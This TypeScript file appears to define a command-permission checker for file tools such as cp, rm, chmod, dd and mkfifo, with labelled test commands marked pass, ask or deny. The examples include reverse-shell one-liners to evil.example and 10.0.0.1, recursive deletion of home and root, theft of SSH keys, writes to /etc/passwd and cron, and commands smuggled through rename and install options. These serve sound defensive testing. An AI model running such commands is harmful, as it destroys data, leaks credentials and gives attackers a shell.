// Programs that copy, move, delete and describe files, and change their permissions.
import type { CommandSpec, ProgramSpec } from '../spec.ts';

const COPY_FLAGS =
  '-r -R -a -f -i -n -p -v -u -L -P -H -d -l -s -T -x -b -Z --recursive --archive --force --interactive --no-clobber --update --verbose --parents --dereference --no-dereference --one-file-system --no-target-directory --remove-destination --attributes-only --strip-trailing-slashes';

/** Options that cp and mv share. */
const COPY: CommandSpec['options'] = {
  '-t --target-directory': 'into',
  '-S --suffix': 'text',
  [COPY_FLAGS]: 'flag',
  '--backup --preserve --no-preserve --reflink --sparse --context': { kind: 'text', attached: true },
};

const CHANGE_FLAGS = '-R -v -c -f -h -H -L -P --recursive --verbose --changes --silent --quiet';

export const programs: readonly ProgramSpec[] = [
  {
    names: 'cp gcp',
    about: 'Copies files.',
    options: COPY,
    operands: 'copies',
    traits: ['words'],
    examples: [
      { command: 'cp -r src /tmp/src', expect: 'pass' },
      { command: 'cp evil.sh ~/.bashrc', expect: 'ask' },
      { command: 'cp -t /etc/cron.d job', expect: 'deny' },
      { command: 'cp ~/.ssh/id_rsa /tmp/x', expect: 'deny' },
      {
        command: 'cp .env.example .env',
        expect: 'pass',
        title: 'Copies an example to the secret file, to be filled in',
      },
    ],
  },
  {
    names: 'install ginstall',
    about: 'Copies files and sets their permissions.',
    options: {
      '-t --target-directory': 'into',
      '-m --mode -o --owner -g --group -S --suffix': 'text',
      '-d -D -p -s -v -c -C -b -T --directory --preserve-timestamps --strip --verbose --compare': 'flag',
      '--backup --context': { kind: 'text', attached: true },
      '--strip-program': 'runs',
    },
    operands: 'copies',
    effects: [
      {
        code: 'chmod-setuid',
        kind: 'escalate',
        flags: '-m=~s|47|67|27|047|067|027 --mode=~s|47|67|27|047|067|027',
        why: 'Makes a copy that runs with the rights of its owner, whoever starts it.',
        safer: 'install -m 755 SOURCE TARGET',
      },
    ],
    examples: [
      { command: 'install -m 755 build/app bin/app', expect: 'pass' },
      { command: 'install -m 644 job /etc/cron.d/job', expect: 'deny' },
      { command: 'install -m =xs /bin/bash /tmp/sh', expect: 'ask' },
      { command: 'install -m 4755 a /tmp/b', expect: 'ask' },
      { command: "install -s --strip-program='rm -rf ~' a b", expect: 'deny' },
    ],
  },
  {
    names: 'ditto',
    about: 'Copies trees and packs archives on macOS.',
    options: {
      '-c -k -x -v -V -X --rsrc --norsrc --keepParent --sequesterRsrc --noextattr --noacl': 'flag',
      '--bom': 'reads',
      '--arch --password': 'text',
    },
    operands: 'copies',
    examples: [
      { command: 'ditto src /tmp/src', expect: 'pass' },
      { command: 'ditto job /etc/periodic/daily/job', expect: 'deny' },
    ],
  },
  {
    names: 'mv gmv',
    about: 'Moves and renames files.',
    options: COPY,
    operands: 'moves',
    behaviours: ['moves'],
    examples: [
      { command: 'mv src/a.ts src/b.ts', expect: 'pass' },
      { command: 'mv ~ /tmp/x', expect: 'deny' },
      { command: 'mv src /dev/null', expect: 'deny' },
      { command: 'mv -t /etc/cron.d job', expect: 'deny' },
      { command: 'mv --target-directory=/etc hosts', expect: 'deny' },
    ],
  },
  {
    names: 'move-item',
    about: 'Moves files in PowerShell.',
    behaviours: ['moves'],
    examples: [
      { command: 'Move-Item a.txt b.txt', expect: 'pass' },
      { command: 'Move-Item ~ /tmp/x', expect: 'deny' },
    ],
  },
  {
    names: 'mmv mcp mln zmv rnm rnr brename',
    about: 'Renames, copies or links many files by a pattern.',
    operands: 'text',
    traits: ['renames'],
    examples: [
      { command: "mmv '*.jpeg' '#1.jpg'", expect: 'pass' },
      { command: "mmv 'x*' '.claude#1'", expect: 'deny', title: 'Moves files into the client’s folder' },
    ],
  },
  {
    names: 'copy-item',
    about: 'Copies files in PowerShell.',
    syntax: { singleDash: true, anyCase: true },
    options: {
      '-path -literalpath': 'reads',
      '-destination': 'writes',
      '-filter -include -exclude -erroraction -fromsession -tosession': 'text',
      '-recurse -force -container -passthru -confirm -verbose': 'flag',
      '-whatif': 'dry',
    },
    operands: 'copies',
    examples: [
      { command: 'Copy-Item src/a.ts src/b.ts -Force', expect: 'pass' },
      {
        command: 'Copy-Item .env.example .env',
        expect: 'pass',
        title: 'Copies an example to the secret file, to be filled in',
      },
      { command: 'Copy-Item .env /tmp/x', expect: 'deny' },
      { command: 'Copy-Item -Path x -Destination /etc/passwd', expect: 'deny' },
    ],
  },
  {
    names: 'rename prename file-rename perl-rename',
    about: 'Renames many files by a pattern or by Perl code.',
    traits: ['renames'],
    options: {
      '-e': 'code',
      '-v -f -s -o -i --verbose --force --symlink --no-overwrite': 'flag',
      '-n --nono --no-act': 'dry',
    },
    operands: 'writes',
    language: 'perl',
    examples: [
      { command: 'rename .jpeg .jpg photos/a.jpeg', expect: 'pass' },
      { command: "rename 's/passwd/x/' /etc/passwd", expect: 'deny' },
      { command: 'rename -e \'system("rm -rf ~")\' a', expect: 'deny' },
    ],
  },
  {
    names: 'ln gln',
    about: 'Creates links.',
    options: {
      '-t --target-directory': 'into',
      '-S --suffix': 'text',
      '-s -f -n -i -v -r -T -L -P -b --symbolic --force --no-dereference --relative --verbose': 'flag',
      '--backup': { kind: 'text', attached: true },
    },
    operands: 'copies',
    traits: ['fills-folder', 'words'],
    behaviours: ['makesLinks'],
    examples: [
      { command: 'ln -s ~/Documents d && rm -rf d/*', expect: 'ask' },
      { command: 'ln -s / r; rm -rf r/etc', expect: 'deny' },
      {
        command: 'ln -s ~/Documents d && rm d',
        expect: 'pass',
        title: 'Removes only the link, not what it leads to',
      },
      { command: 'ln -s ../shared src/shared', expect: 'pass' },
      { command: 'ln -s ~/.ssh/id_rsa key', expect: 'deny' },
      { command: 'ln -sf evil.sh ~/.bashrc', expect: 'ask' },
    ],
  },
  {
    names: 'link glink',
    about: 'Creates a hard link.',
    operands: 'copies',
    examples: [
      { command: 'link a b', expect: 'pass' },
      { command: 'link ~/.ssh/id_rsa key', expect: 'deny' },
    ],
  },
  {
    names: 'tee gtee',
    about: 'Writes its input to files and passes it on.',
    options: {
      '-a -i -p --append --ignore-interrupts': 'flag',
      '--output-error': { kind: 'text', attached: true },
    },
    operands: 'writes',
    traits: ['words'],
    behaviours: ['printsInput', 'savesInput'],
    examples: [
      { command: 'npm test 2>&1 | tee test.log', expect: 'pass' },
      { command: 'echo x | tee -a /etc/hosts', expect: 'deny' },
      { command: 'echo x | tee -a ~/.bashrc', expect: 'ask' },
    ],
  },
  {
    names: 'sponge',
    about: 'Writes its input to a file after reading all of it.',
    options: { '-a': 'flag' },
    operands: 'writes',
    behaviours: ['savesInput'],
    examples: [
      { command: 'sort a.txt | sponge a.txt', expect: 'pass' },
      { command: 'echo x | sponge -a /etc/passwd', expect: 'deny' },
    ],
  },
  {
    names: 'dos2unix unix2dos mac2unix unix2mac',
    about: 'Changes the line endings of files.',
    options: {
      '-n -o -k -q -f -b -s -F --newfile --oldfile --keepdate --quiet --force': 'flag',
      '-c --convmode -i --info': 'text',
    },
    operands: 'writes',
    examples: [
      { command: 'dos2unix src/a.txt', expect: 'pass' },
      { command: 'unix2dos /etc/passwd', expect: 'deny' },
      { command: 'dos2unix -n evil /etc/cron.d/evil', expect: 'deny' },
    ],
  },
  {
    names: 'truncate gtruncate',
    about: 'Cuts files to a size, or makes them longer.',
    options: {
      '-s --size': 'text',
      '-r --reference': 'reads',
      '-c -o --no-create --io-blocks': 'flag',
    },
    operands: 'writes',
    behaviours: ['truncates'],
    examples: [
      { command: 'truncate -s +1M /tmp/disk.img', expect: 'pass' },
      { command: 'truncate -s 0 /etc/passwd', expect: 'deny' },
    ],
  },
  {
    names: 'touch gtouch',
    about: 'Creates files, or changes their times.',
    options: {
      '-d -t -r --date --reference --time': 'text',
      '-a -c -m -f -h --no-create --no-dereference': 'flag',
    },
    operands: 'writes',
    plain: true,
    traits: ['words'],
    kind: 'unknown-code',
    effects: [
      {
        code: 'unseen-code',
        flags:
          '--checkpoint --checkpoint-action --use-compress-program --to-command --rsync-path --unzip-command -e',
        why: 'Names a file like an option that runs a command, so that a later `*` runs it.',
        safer: 'give the file another name',
      },
    ],
    examples: [
      { command: 'touch --use-compress-program=/bin/sh', expect: 'ask' },
      { command: 'touch --reference=a.ts b.ts', expect: 'pass' },
      { command: 'touch src/a.ts', expect: 'pass' },
      { command: 'touch /etc/nologin', expect: 'deny' },
      { command: 'touch -- --odd-name.txt', expect: 'pass' },
      { command: "touch -- '--checkpoint-action=exec=sh x.sh'", expect: 'ask' },
    ],
  },
  {
    names: 'mkdir gmkdir',
    about: 'Creates directories.',
    options: { '-m --mode': 'text', '-p -v --parents --verbose': 'flag' },
    operands: 'writes',
    plain: true,
    traits: ['words'],
    examples: [
      { command: 'mkdir -p src/a/b', expect: 'pass' },
      { command: 'mkdir -p /opt/app /etc/x', expect: 'pass', title: 'An empty directory does no harm' },
      { command: 'mkdir -p /etc/x && echo 1 > /etc/x/a', expect: 'deny' },
    ],
  },
  {
    names: 'mktemp',
    about: 'Creates a temporary file or directory, and prints its name.',
    options: {
      '-p --suffix -t': 'text',
      '--tmpdir': { kind: 'text', attached: true },
      '-d -q --directory --quiet': 'flag',
      '-u --dry-run': 'dry',
    },
    behaviours: ['makesTemporaryFile'],
    examples: [
      {
        command: 'd=$(mktemp -d) && rm -rf "$d"',
        expect: 'pass',
        title: 'Deletes the directory that the same command made',
      },
    ],
  },
  {
    names: 'fallocate',
    about: 'Reserves or frees space in a file.',
    options: {
      '-l -o --length --offset': 'text',
      '-c -d -i -n -p -x -z -v --collapse-range --dig-holes --insert-range --keep-size --punch-hole --posix --zero-range':
        'flag',
    },
    operands: 'writes',
    behaviours: ['punchesHoles', 'takesSize'],
    examples: [
      { command: 'fallocate -l 10T /tmp/x', expect: 'ask' },
      { command: 'fallocate -l 1G /tmp/disk.img', expect: 'pass' },
      { command: 'fallocate -l 1G /etc/x', expect: 'deny' },
    ],
  },
  {
    names: 'patch gpatch',
    about: 'Applies a patch to files.',
    options: {
      '-p --strip -F --fuzz -B --prefix -Y --basename-prefix -z --suffix -D --ifdef -V --version-control':
        'text',
      '-d --directory': 'cwd',
      '-i --input': 'reads',
      '-o --output -r --reject-file': 'writes',
      '-R -N -f -t -s -b -E -l -u -c -n -e -v --reverse --forward --force --batch --silent --quiet --backup --remove-empty-files --binary --posix --verbose':
        'flag',
      '--dry-run': 'dry',
    },
    operands: 'writes',
    examples: [
      { command: 'patch -p1 < fix.diff', expect: 'pass' },
      { command: 'patch /etc/passwd fix.diff', expect: 'deny' },
      { command: 'patch -o /etc/passwd a.txt fix.diff', expect: 'deny' },
      { command: 'patch -i .env a.txt', expect: 'deny' },
    ],
  },
  {
    names: 'rm grm',
    about: 'Deletes files and directories.',
    options: {
      '-r -R -f -i -I -v -d -P -W -x --recursive --force --verbose --dir --one-file-system --preserve-root --no-preserve-root':
        'flag',
      '--interactive': { kind: 'text', attached: true },
    },
    operands: 'deletes',
    behaviours: ['deletes'],
    examples: [
      { command: 'rm -rf node_modules dist', expect: 'pass' },
      { command: 'rm src/old.ts', expect: 'pass' },
      { command: 'ls -t | tail -n +4 | xargs rm', expect: 'pass', title: 'Deletes old files of this folder' },
      { command: 'ls -1t backups/*.sql | tail -n +6 | xargs -r rm --', expect: 'pass' },
      { command: 'ls ~/* | xargs rm', expect: 'deny' },
      {
        command: 'ls -t | tail -n +4 | xargs rm -rf',
        expect: 'ask',
        title: 'Deletes whole folders, whichever are old',
      },
      { command: 'rm -rf ~', expect: 'deny' },
      { command: 'rm -rf /', expect: 'deny' },
      { command: 'rm -rf .git', expect: 'deny' },
      { command: 'rm .env', expect: 'deny' },
    ],
  },
  {
    names: 'unlink gunlink',
    about: 'Deletes one file.',
    operands: 'deletes',
    behaviours: ['deletes'],
    examples: [
      { command: 'unlink src/old.ts', expect: 'pass' },
      { command: 'unlink /etc/passwd', expect: 'deny' },
      { command: 'unlink ~/.ssh/id_rsa', expect: 'deny' },
    ],
  },
  {
    names: 'rmdir grmdir',
    about: 'Deletes empty directories.',
    options: { '-p -v --parents --verbose --ignore-fail-on-non-empty': 'flag' },
    operands: 'deletes',
    behaviours: ['deletesDirectory'],
    examples: [
      { command: 'rmdir src/empty', expect: 'pass' },
      {
        command: 'rmdir /s /q C:\\Users',
        expect: 'deny',
        title: 'On Windows, `rmdir /s` deletes whole folders',
      },
      { command: 'rmdir ~/.ssh', expect: 'deny' },
    ],
  },
  {
    names: 'shred gshred',
    about: "Overwrites files so that they can't be recovered.",
    options: {
      '-n -s --iterations --size': 'text',
      '--random-source': 'reads',
      '-f -u -v -x -z --force --verbose --exact --zero': 'flag',
      '--remove': { kind: 'text', attached: true },
    },
    operands: 'deletes',
    behaviours: ['shreds'],
    examples: [
      { command: 'shred -u /tmp/key.txt', expect: 'pass' },
      { command: 'shred -u notes.txt', expect: 'deny' },
    ],
  },
  {
    names: 'srm secure-delete',
    about: 'Overwrites and deletes files.',
    options: { '-r -f -d -l -v -z -s -m -R': 'flag' },
    operands: 'deletes',
    behaviours: ['deletes'],
    examples: [
      { command: 'srm --help', expect: 'pass' },
      { command: 'srm -r ~', expect: 'deny' },
    ],
  },
  {
    names: 'wipe',
    about: 'Overwrites and deletes files.',
    options: { '-r -f -c -i -q -s -D -Z -F': 'flag', '-S -R -M -p -l -o -x': 'text' },
    operands: 'deletes',
    behaviours: ['deletes'],
    examples: [
      { command: 'wipe --help', expect: 'pass' },
      { command: 'wipe -rf ~', expect: 'deny' },
    ],
  },
  {
    names: 'scrub',
    about: 'Overwrites files or disks with patterns.',
    options: {
      '-p -b -s -X -D --pattern --blocksize --device-size --freespace --dirent': 'text',
      '-f -S -r -R -L -t -T -n': 'flag',
    },
    operands: 'deletes',
    behaviours: ['deletes'],
    examples: [
      { command: 'scrub --help', expect: 'pass' },
      { command: 'scrub -r /etc/passwd', expect: 'deny' },
    ],
  },
  {
    names: 'del erase',
    about: 'Deletes files in cmd.',
    behaviours: ['deletesOnWindows'],
    examples: [
      { command: 'del build\\a.obj', expect: 'pass' },
      { command: 'del /s /q C:\\', expect: 'deny' },
    ],
  },
  {
    names: 'rd deltree',
    about: 'Deletes directories in cmd.',
    behaviours: ['deletesOnWindows'],
    examples: [
      { command: 'rd /s /q node_modules', expect: 'pass' },
      { command: 'rd /s /q C:\\Users', expect: 'deny' },
    ],
  },
  {
    names: 'remove-item ri',
    about: 'Deletes files and directories in PowerShell.',
    behaviours: ['deletesOnWindows'],
    examples: [
      { command: 'Remove-Item -Recurse dist', expect: 'pass' },
      { command: 'Remove-Item -Recurse -Force ~', expect: 'deny' },
      {
        command: 'Remove-Item -Recurse ~ -WhatIf',
        expect: 'pass',
        title: 'Only shows what would be deleted',
      },
    ],
  },
  {
    names: 'chmod gchmod',
    about: 'Changes the permissions of files.',
    options: {
      '--reference': 'text',
      '-R -v -c -f --recursive --verbose --changes --silent --quiet --preserve-root --no-preserve-root':
        'flag',
    },
    behaviours: ['changesMode'],
    examples: [
      { command: 'chmod +x scripts/run.sh', expect: 'pass' },
      { command: 'chmod -R 777 .', expect: 'ask' },
      { command: 'chmod u+s bin/app', expect: 'ask' },
      { command: 'chmod -R 700 /etc', expect: 'deny' },
    ],
  },
  {
    names: 'chown gchown',
    about: 'Changes the owner of files.',
    options: { '--reference --from': 'text', [CHANGE_FLAGS]: 'flag' },
    behaviours: ['changesOwner'],
    examples: [
      { command: 'chown me src/a.ts', expect: 'pass' },
      { command: 'chown -R me /usr', expect: 'deny' },
    ],
  },
  {
    names: 'chgrp gchgrp',
    about: 'Changes the group of files.',
    options: { '--reference': 'text', [CHANGE_FLAGS]: 'flag' },
    behaviours: ['changesOwner'],
    examples: [
      { command: 'chgrp staff src/a.ts', expect: 'pass' },
      { command: 'chgrp -R staff /etc', expect: 'deny' },
    ],
  },
  {
    names: 'setfacl',
    about: 'Changes the access control lists of files.',
    options: {
      '-m -x --set --modify --remove': 'text',
      '-M -X --modify-file --remove-file --set-file --restore': 'reads',
      '-R -b -k -d -n -L -P --recursive --remove-all --remove-default --default': 'flag',
      '--test': 'dry',
    },
    behaviours: ['changesRights'],
    examples: [
      { command: 'setfacl -m u:ci:r src/a.ts', expect: 'pass' },
      { command: 'setfacl -R -m u:ci:rwx /etc', expect: 'deny' },
    ],
  },
  {
    names: 'chattr',
    about: 'Changes the attributes of files on Linux.',
    options: { '-v -p': 'text', '-R -V -f': 'flag' },
    behaviours: ['changesRights'],
    examples: [
      { command: 'chattr +C data', expect: 'pass' },
      { command: 'chattr -R +i /etc', expect: 'deny' },
    ],
  },
  {
    names: 'chflags',
    about: 'Changes the flags of files on macOS and BSD.',
    options: { '-R -H -L -P -f -h -v -x': 'flag' },
    behaviours: ['changesRights'],
    examples: [
      { command: 'chflags nohidden src', expect: 'pass' },
      { command: 'chflags -R schg /etc', expect: 'deny' },
    ],
  },
  {
    names: 'takeown',
    about: 'Takes ownership of files on Windows.',
    syntax: { singleDash: true, anyCase: true },
    kind: 'permissions',
    effects: [
      {
        code: 'permissions-system',
        when: '** /r',
        why: 'Takes over every file of a tree.',
        safer: 'icacls PATH',
      },
    ],
    behaviours: ['changesRights'],
    examples: [
      { command: 'takeown /f a.txt', expect: 'pass' },
      { command: "takeown /f 'C:\\' /r", expect: 'ask' },
      { command: 'takeown /f C:\\Windows /r', expect: 'ask' },
    ],
  },
  {
    names: 'icacls',
    about: 'Shows and changes access control lists on Windows.',
    syntax: { singleDash: true, anyCase: true },
    kind: 'permissions',
    effects: [
      {
        code: 'permissions-system',
        when: '** /grant*|/deny*|/remove*|/reset|/setowner|/inheritance*|/t',
        why: 'Changes rights or owner, with /t of whole trees.',
        safer: 'icacls PATH',
      },
    ],
    behaviours: ['changesRights'],
    examples: [
      { command: 'icacls a.txt', expect: 'pass' },
      { command: "icacls 'C:\\' /grant Everyone:F /t", expect: 'ask' },
      { command: 'icacls C:\\Windows /grant Everyone:F', expect: 'ask' },
    ],
  },
  {
    names: 'dd gdd',
    about: 'Copies blocks, also from and to disks.',
    syntax: { assignments: true },
    options: {
      'if=': 'reads',
      'of=': 'writes',
      'bs= ibs= obs= cbs= count= skip= seek= iseek= oseek= conv= status= iflag= oflag=': 'text',
    },
    operands: 'copies',
    behaviours: ['overwritesWithZeros', 'copiesBlocks', 'fillsWithBlocks'],
    examples: [
      { command: 'dd if=/dev/zero of=/tmp/x bs=1M', expect: 'ask', title: 'Writes until the disk is full' },
      { command: 'dd if=/dev/zero of=/tmp/x bs=1M count=1', expect: 'pass' },
      { command: 'dd if=/dev/zero of=/dev/null count=9', expect: 'pass' },
      { command: 'dd if=x of=/dev/sda', expect: 'deny' },
      { command: 'dd if=.env', expect: 'deny' },
      { command: 'dd if=/dev/sda of=/tmp/disk.img count=100', expect: 'ask' },
      {
        command: 'dd if=/dev/sda of=/dev/null bs=1M count=1024',
        expect: 'pass',
        title: 'Only measures how fast the disk reads',
      },
      { command: 'dd of=/etc/cron.d/x if=x', expect: 'deny' },
    ],
  },
  {
    names: 'open',
    about: 'Opens files and addresses on the desktop.',
    options: { '-a -b -u --env --stdin --stdout --stderr': 'text', '-e -t -f -W -R -n -g -j -h -F': 'flag' },
    operands: 'reads',
    traits: ['words'],
    kind: 'unknown-code',
    effects: [
      {
        code: 'unseen-code',
        when: '** *.command|*.tool|*.terminal|*.workflow|*.scpt|*.pkg|*.mpkg|/tmp/*.app|/private/tmp/*.app',
        why: 'Runs a program that nobody has looked at.',
        safer: 'look at what it does first',
      },
    ],
    examples: [
      { command: 'open coverage/index.html', expect: 'pass' },
      { command: 'open -a Safari http://localhost:3000', expect: 'pass' },
      { command: 'open build/Debug/Notes.app', expect: 'pass' },
      { command: 'open -a Terminal /tmp/setup.command', expect: 'ask' },
      { command: 'open /tmp/setup.app', expect: 'ask' },
      { command: 'open -e .env', expect: 'deny' },
    ],
  },
  {
    names: 'code code-insiders codium',
    about: 'The command line of Visual Studio Code.',
    options: {
      '-d --diff -a --add -g --goto -m --merge -n --new-window -r --reuse-window -w --wait -v --list-extensions --disable-extensions --force':
        'flag',
      '--install-extension --uninstall-extension --locale --log --profile --category': 'text',
      '--user-data-dir --extensions-dir': 'writes',
    },
    operands: 'reads',
    kind: 'escalate',
    effects: [
      {
        code: 'reverse-tunnel',
        when: 'tunnel|serve-web',
        except: 'status|help|unregister|kill|user',
        why: 'Gives anybody with access to the account a way into this machine.',
        safer: 'code tunnel status',
      },
    ],
    traits: ['words'],
    examples: [
      { command: 'code src/a.ts', expect: 'pass' },
      { command: 'code tunnel', expect: 'ask' },
      { command: 'code .env', expect: 'deny' },
    ],
  },
  {
    names: 'ls gls',
    about: 'Lists directories.',
    operands: 'text',
    plain: 'any',
    traits: ['only-looks', 'words'],
    behaviours: ['listsFiles'],
    examples: [{ command: 'ls -la ~/.ssh', expect: 'pass', title: 'Lists only the names of files' }],
  },
  {
    names: 'tree',
    about: 'Draws a tree of directories.',
    options: {
      '-a -d -f -s -h -D -C -i -l -p -u -g -F -n -t -r -U -v -x -J -X --dirsfirst --noreport --du --prune --si --gitignore':
        'flag',
      '-L -I -P -H -T --filelimit --timefmt --sort --charset': 'text',
      '--fromfile --gitfile --infofile': 'reads',
      '-o': 'writes',
    },
    operands: 'text',
    plain: true,
    traits: ['only-looks', 'words'],
    examples: [
      { command: 'tree -L 2 src', expect: 'pass' },
      { command: 'tree -o /etc/passwd', expect: 'deny' },
      { command: 'tree --fromfile .env', expect: 'deny' },
    ],
  },
  {
    names: 'du gdu',
    about: 'Shows the disk usage of files.',
    options: {
      '--files0-from -X --exclude-from': 'reads',
      '-s -h -a -c -k -m -x -b -l -S -0 -D -L -P --summarize --human-readable --all --total --apparent-size --si':
        'flag',
      '-d --max-depth --exclude --threshold -t -B --block-size --time-style': 'text',
    },
    operands: 'text',
    plain: true,
    traits: ['only-looks', 'words'],
    examples: [
      { command: 'du -sh node_modules', expect: 'pass' },
      {
        command: 'du --files0-from=.env',
        expect: 'deny',
        title: 'Error messages show the lines of the file',
      },
    ],
  },
  { names: 'df gdf', about: 'Shows the free space of file systems.', plain: 'any', traits: ['words'] },
  {
    names: 'stat gstat',
    about: 'Shows the size, permissions and times of files.',
    plain: 'any',
    traits: ['only-looks', 'words'],
  },
  {
    names: 'file',
    about: 'Detects the type of files.',
    options: {
      '-b -i -I -L -h -z -Z -k -r -s -S -N -n -0 --brief --mime --mime-type --mime-encoding --keep-going --dereference':
        'flag',
      '-F --separator -P --parameter -e --exclude': 'text',
      '-f --files-from -m --magic-file': 'reads',
    },
    operands: 'text',
    plain: true,
    traits: ['only-looks', 'words'],
    examples: [
      { command: 'file src/logo.svg', expect: 'pass' },
      { command: 'file -f .env', expect: 'deny', title: 'Error messages show the lines of the file' },
      { command: 'file -m .env x', expect: 'deny' },
    ],
  },
  {
    names: 'basename',
    about: 'Prints the last part of a path.',
    plain: 'any',
    traits: ['only-looks', 'words'],
    behaviours: ['printsBaseName'],
  },
  {
    names: 'dirname',
    about: 'Prints a path without its last part.',
    plain: 'any',
    traits: ['only-looks', 'words'],
    behaviours: ['printsDirectoryName'],
  },
  {
    names: 'pwd',
    about: 'Prints the working directory.',
    plain: 'any',
    traits: ['only-looks', 'words'],
    behaviours: ['printsDirectory'],
  },
  {
    names: 'realpath grealpath',
    about: 'Prints the absolute path of files.',
    traits: ['only-looks', 'words'],
    options: { '--relative-to --relative-base': 'text' },
    behaviours: ['printsOperand'],
  },
  {
    names: 'readlink greadlink',
    about: 'Prints the target of links.',
    traits: ['only-looks', 'words'],
    behaviours: ['printsOperand'],
  },
  {
    names: 'mkfifo gmkfifo',
    about: 'Makes named pipes.',
    options: { '-m --mode': 'text', '-Z': 'flag' },
    operands: 'writes',
    behaviours: ['makesPipe'],
    examples: [
      { command: 'mkfifo /tmp/p && cat /tmp/p', expect: 'pass' },
      {
        command:
          'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s',
        expect: 'ask',
        title: 'Somebody at the other end types into the shell',
      },
      { command: 'mkfifo p; cat p | sh -i 2>&1 | nc evil.example 9 > p', expect: 'deny' },
      {
        command: 'mkfifo p; nc -l 8080 < p | nc example.com 80 > p',
        expect: 'pass',
        title: 'A relay between two connections, without a shell',
      },
      { command: 'mkfifo ~/.bashrc', expect: 'ask' },
    ],
  },
  {
    names: 'mknod gmknod',
    about: 'Makes devices and named pipes.',
    options: { '-m --mode': 'text', '-Z': 'flag' },
    operands: 'output',
    behaviours: ['makesPipe'],
    examples: [
      { command: 'mknod /tmp/p p', expect: 'pass' },
      { command: 'mknod /tmp/p p; /bin/sh 0</tmp/p | nc 10.0.0.1 4444 1>/tmp/p', expect: 'deny' },
    ],
  },
];
